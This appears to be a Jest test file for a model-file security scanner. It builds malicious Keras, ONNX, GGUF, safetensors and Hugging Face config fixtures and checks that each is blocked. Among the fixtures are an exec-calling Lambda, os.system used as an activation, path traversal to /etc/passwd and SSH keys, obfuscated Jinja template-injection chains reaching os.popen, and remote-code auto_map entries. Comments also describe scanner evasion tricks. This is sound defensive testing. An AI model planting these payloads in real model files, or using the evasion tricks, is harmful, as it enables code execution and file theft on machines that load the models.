/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect*"] }] */
/**
 * THREATS.md class 7 end to end: non-pickle model formats with their code-execution and file-access
 * shapes, composed (nested sub-models, subgraphs, archives) the way an attacker would ship them.
 */
import {
  buildZip,
  expectBlocked,
  expectBlockedBy,
  expectNotBlocked,
  gguf,
  protoMessage as message,
  ruleIds,
  safetensors,
  scanBytes,
  scanTree,
} from './__testUtils__/helpers';

// ------------------------------------------------------------------ Keras

const lambdaLayer = (name: string) => ({
  module: 'keras.layers',
  class_name: 'Lambda',
  config: {
    name,
    function: {
      class_name: '__lambda__',
      config: {
        code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOWgJpZCkB2gRleGVjKQHaAXipAHIDAAAA+gA8bGFtYmRhPgEAAADzAAAAAA==',
        defaults: null,
        closure: null,
      },
    },
  },
  registered_name: 'Lambda',
});

const dense = (name: string) => ({
  module: 'keras.layers',
  class_name: 'Dense',
  config: { name, units: 4 },
  registered_name: null,
});

/** A functional model whose second layer is itself a functional model holding `inner`. */
function functionalWithSubModel(
  inner: object,
  extraTopLevel: Record<string, unknown> = {},
) {
  return {
    module: 'keras.src.models.functional',
    class_name: 'Functional',
    config: {
      name: 'outer',
      layers: [
        dense('d0'),
        {
          module: 'keras.src.models.functional',
          class_name: 'Functional',
          config: {
            name: 'encoder',
            layers: [
              dense('d1'),
              {
                module: 'keras.layers',
                class_name: 'TimeDistributed',
                config: { name: 'td', layer: inner },
              },
            ],
          },
        },
      ],
    },
    registered_name: 'Functional',
    ...extraTopLevel,
  };
}

function kerasArchive(config: object | string): Uint8Array {
  return buildZip({
    entries: [
      {
        name: 'metadata.json',
        data: JSON.stringify({
          keras_version: '3.6.0',
          date_saved: '2025-01-01',
        }),
      },
      {
        name: 'config.json',
        data: typeof config === 'string' ? config : JSON.stringify(config),
        method: 'deflate',
      },
      { name: 'model.weights.h5', data: new Uint8Array(16) },
    ],
  });
}

describe('Keras', () => {
  it('.keras zip with a Lambda inside TimeDistributed inside a functional sub-model', async () => {
    expectBlockedBy(
      await scanBytes(
        kerasArchive(functionalWithSubModel(lambdaLayer('evil'))),
        'model.keras',
      ),
      'MODEL-KERAS-LAMBDA',
    );
  });

  it('config referencing keras.models.load_model (CVE-2025-9906 shape)', async () => {
    const gadget = {
      module: 'keras.models',
      class_name: 'function',
      config: 'load_model',
      registered_name: 'function',
    };
    const config = functionalWithSubModel({
      ...dense('d2'),
      config: { name: 'd2', units: 4, kernel_initializer: gadget },
    });
    const result = await scanBytes(kerasArchive(config), 'model.keras');
    expectBlockedBy(result, 'MODEL-KERAS-UNSAFE-FUNCTION');
  });

  it('config calling keras.config.enable_unsafe_deserialization before a Lambda', async () => {
    const gadget = {
      module: 'keras.config',
      class_name: 'function',
      config: 'enable_unsafe_deserialization',
      registered_name: 'function',
    };
    const config = functionalWithSubModel({
      ...dense('d3'),
      config: { name: 'd3', units: 4, activation: gadget },
    });
    expectBlockedBy(
      await scanBytes(kerasArchive(config), 'model.keras'),
      'MODEL-KERAS-UNSAFE-FUNCTION',
    );
  });

  it('custom object from a module outside Keras (os.system as an activation)', async () => {
    const config = functionalWithSubModel({
      ...dense('d4'),
      config: {
        name: 'd4',
        units: 4,
        activation: {
          module: 'os',
          class_name: 'function',
          config: 'system',
          registered_name: 'function',
        },
      },
    });
    expectBlocked(await scanBytes(kerasArchive(config), 'model.keras'));
  });

  // Was a gap, now covered (formats/models/keras/configReader.ts looksLikeKerasConfig): a config.json that also carries a
  // Hugging Face key ("model_type", "architectures", ...) is handed to the HF config reader, which does
  // not check layers; Keras ignores the extra top-level key and deserialises the Lambda.
  it('a decoy "model_type" key in a .keras config.json does not hide the Lambda', async () => {
    const config = functionalWithSubModel(lambdaLayer('evil'), {
      model_type: 'bert',
    });
    expectBlockedBy(
      await scanBytes(kerasArchive(config), 'model.keras'),
      'MODEL-KERAS-LAMBDA',
    );
  });

  // Was a gap, now covered (same reader): the content test only looks at the first 4 KiB; a long first key pushes every
  // "class_name" out of it, so config.json goes to the HF reader (or nowhere) and the Lambda is unseen.
  it('a 5 KB padding key before "class_name" does not hide the Lambda', async () => {
    const body = JSON.stringify(functionalWithSubModel(lambdaLayer('evil')));
    const padded = `{"_comment": "${'A'.repeat(5000)}", ${body.slice(1)}`;
    expectBlockedBy(
      await scanBytes(kerasArchive(padded), 'model.keras'),
      'MODEL-KERAS-LAMBDA',
    );
  });

  it('the same Lambda config as a bare model.json export (model.to_json())', async () => {
    expectBlockedBy(
      await scanBytes(
        Buffer.from(JSON.stringify(functionalWithSubModel(lambdaLayer('x')))),
        'model.json',
      ),
      'MODEL-KERAS-LAMBDA',
    );
  });
});

// ------------------------------------------------------------------ ONNX

function tensorWithLocation(name: string, location: string) {
  return message()
    .varint(1, 4)
    .varint(2, 1)
    .bytes(8, name)
    .bytes(13, message().bytes(1, 'location').bytes(2, location))
    .varint(14, 1);
}
function onnxModel(graph: ReturnType<typeof message>) {
  return message()
    .varint(1, 8)
    .bytes(2, 'pytorch')
    .bytes(3, '2.3.0')
    .bytes(7, graph)
    .bytes(8, message().varint(2, 17))
    .toBytes();
}
/** Loop node whose body graph holds an If node whose then-branch initialises `tensor`. */
function nestedSubgraphs(tensor: ReturnType<typeof message>) {
  const thenBranch = message().bytes(2, 'then').bytes(5, tensor);
  const ifNode = message()
    .bytes(3, 'If_inner')
    .bytes(4, 'If')
    .bytes(5, message().bytes(1, 'then_branch').bytes(6, thenBranch));
  const body = message().bytes(1, ifNode).bytes(2, 'loop_body');
  const loop = message()
    .bytes(3, 'Loop_0')
    .bytes(4, 'Loop')
    .bytes(5, message().bytes(1, 'body').bytes(6, body));
  return message().bytes(1, loop).bytes(2, 'main');
}

describe('ONNX', () => {
  it('external_data ../../etc/passwd in an If branch inside a Loop body', async () => {
    const result = await scanBytes(
      onnxModel(nestedSubgraphs(tensorWithLocation('w', '../../etc/passwd'))),
      'model.onnx',
    );
    expectBlockedBy(result, 'MODEL-ONNX-EXTERNAL-PATH');
  });

  it('the same model inside a zip, under a non-.onnx name', async () => {
    const zip = buildZip({
      entries: [
        {
          name: 'export/graph.bin',
          data: onnxModel(
            nestedSubgraphs(tensorWithLocation('w', '../../etc/passwd')),
          ),
        },
      ],
    });
    expectBlockedBy(
      await scanBytes(zip, 'bundle.zip'),
      'MODEL-ONNX-EXTERNAL-PATH',
    );
  });

  it('a benign location first and the traversal in a repeated "location" entry (the loader keeps the last)', async () => {
    const tensor = message()
      .varint(1, 4)
      .varint(2, 1)
      .bytes(8, 'w')
      .bytes(13, message().bytes(1, 'location').bytes(2, 'weights.bin'))
      .bytes(
        13,
        message()
          .bytes(1, 'location')
          .bytes(2, '../../../root/.ssh/authorized_keys'),
      )
      .varint(14, 1);
    expectBlockedBy(
      await scanBytes(
        onnxModel(message().bytes(5, tensor).bytes(2, 'g')),
        'model.onnx',
      ),
      'MODEL-ONNX-EXTERNAL-PATH',
    );
  });

  it('a benign ONNX model with data beside it is not blocked', async () => {
    expectNotBlocked(
      await scanBytes(
        onnxModel(
          message()
            .bytes(5, tensorWithLocation('w', 'model.onnx_data'))
            .bytes(2, 'g'),
        ),
        'model.onnx',
      ),
    );
  });
});

// ------------------------------------------------------------------ GGUF chat templates

describe('GGUF chat template SSTI', () => {
  const classic =
    "{% for m in messages %}{{ m.content }}{% endfor %}{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}";

  it('classic dunder chain in tokenizer.chat_template', async () => {
    expectBlockedBy(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': classic,
        }),
        'model.gguf',
      ),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  it('a named template (tokenizer.chat_template.tool_use) carries the payload', async () => {
    expectBlockedBy(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': '{{ messages[0].content }}',
          'tokenizer.chat_template.tool_use': classic,
        }),
        'model.gguf',
      ),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  it('GGUF under a .bin name', async () => {
    expectBlockedBy(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': classic,
        }),
        'ggml-model-q4.bin',
      ),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  // Was a gap, now covered (formats/models/common/chatTemplate.ts): Jinja resolves `x["name"]` to getattr when the item
  // is missing, so dunder names built by `+` from a "_" variable never appear literally; the
  // "built-underscores" pattern only knows `'_'*2` and `'_'~'_'`.
  it('dunders built with + from a "_" variable are caught', async () => {
    const template =
      '{% set u = "_" %}{{ cycler[u+u+"init"+u+u][u+u+"globals"+u+u]["os"]["popen"]("id").read() }}';
    expectBlockedBy(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': template,
        }),
        'model.gguf',
      ),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  // Was a gap, now covered (same file): split string literals joined with ~ ("__cla" ~ "ss__") dodge both patterns.
  it('dunders split across ~-joined literals are caught', async () => {
    const template =
      '{{ joiner["__in"~"it__"]["__glo"~"bals__"]["o"~"s"]["po"~"pen"]("id").read() }}';
    expectBlockedBy(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': template,
        }),
        'model.gguf',
      ),
      'MODEL-CHAT-TEMPLATE-INJECTION',
    );
  });

  it('a realistic benign template is not blocked', async () => {
    const template =
      "{{ bos_token }}{% for message in messages %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] | trim + ' [/INST]' }}{% else %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}";
    expectNotBlocked(
      await scanBytes(
        gguf({
          'general.architecture': 'llama',
          'tokenizer.chat_template': template,
        }),
        'model.gguf',
      ),
    );
  });
});

// ------------------------------------------------------------------ safetensors

describe('safetensors', () => {
  it('overlapping data offsets', async () => {
    const bytes = safetensors(
      {
        a: { dtype: 'F32', shape: [4], data_offsets: [0, 16] },
        b: { dtype: 'F32', shape: [4], data_offsets: [8, 24] },
      },
      new Uint8Array(24),
    );
    expectBlockedBy(
      await scanBytes(bytes, 'model.safetensors'),
      'MODEL-SAFETENSORS-INVALID',
    );
  });

  it('offsets past the end of the file', async () => {
    const bytes = safetensors(
      { a: { dtype: 'F32', shape: [1024], data_offsets: [0, 4096] } },
      new Uint8Array(16),
    );
    expectBlockedBy(
      await scanBytes(bytes, 'model.safetensors'),
      'MODEL-SAFETENSORS-INVALID',
    );
  });

  it('a safetensors file inside a zip under another name', async () => {
    const bad = safetensors(
      {
        a: { dtype: 'F32', shape: [4], data_offsets: [0, 16] },
        b: { dtype: 'F32', shape: [4], data_offsets: [8, 24] },
      },
      new Uint8Array(24),
    );
    expectBlockedBy(
      await scanBytes(
        buildZip({ entries: [{ name: 'shard-0001', data: bad }] }),
        'weights.zip',
      ),
      'MODEL-SAFETENSORS-INVALID',
    );
  });
});

// ------------------------------------------------------------------ Hugging Face configs

describe('Hugging Face config.json', () => {
  const remote = {
    architectures: ['Evil'],
    model_type: 'evil',
    auto_map: {
      AutoModel: 'attacker/other-repo--modeling_evil.EvilModel',
      AutoTokenizer: ['attacker/other-repo--tok.Tok', null],
    },
  };

  it('auto_map pointing at another repository', async () => {
    const result = await scanTree({
      'config.json': JSON.stringify(remote),
      'model.safetensors': safetensors(
        { a: { dtype: 'F32', shape: [1], data_offsets: [0, 4] } },
        new Uint8Array(4),
      ),
    });
    expectBlockedBy(result, 'MODEL-REMOTE-CODE');
    const finding = result.findings.find(
      f => f.ruleId === 'MODEL-REMOTE-CODE' && f.evidence.repository,
    );
    expect(finding?.evidence.repository).toBe('attacker/other-repo');
  });

  it('auto_map in tokenizer_config.json (list form)', async () => {
    expectBlockedBy(
      await scanTree({
        'tokenizer_config.json': JSON.stringify({
          auto_map: { AutoTokenizer: ['attacker/other-repo--tok.Tok', null] },
        }),
      }),
      'MODEL-REMOTE-CODE',
    );
  });

  // Was a gap, now covered (formats/models/provenance/hfConfigReader.ts sniff): the reader needs "{" within the first 64
  // bytes; json.load accepts any amount of leading whitespace, so 64 blank bytes make config.json
  // invisible (no reader claims it, and .json is not a model extension, so not even SCAN-UNSUPPORTED).
  it('auto_map after 80 bytes of leading whitespace', async () => {
    const result = await scanTree({
      'config.json': `${' '.repeat(40)}\n${' '.repeat(40)}${JSON.stringify(
        remote,
      )}`,
    });
    expectBlockedBy(result, 'MODEL-REMOTE-CODE');
  });

  it('a plain config without auto_map is not blocked', async () => {
    expectNotBlocked(
      await scanTree({
        'config.json': JSON.stringify({
          architectures: ['BertModel'],
          model_type: 'bert',
          hidden_size: 768,
        }),
      }),
    );
  });
});

describe('sanity', () => {
  it('rule ids helper sees nothing in an empty tree', async () => {
    expect(ruleIds(await scanTree({}))).toEqual([]);
  });
});
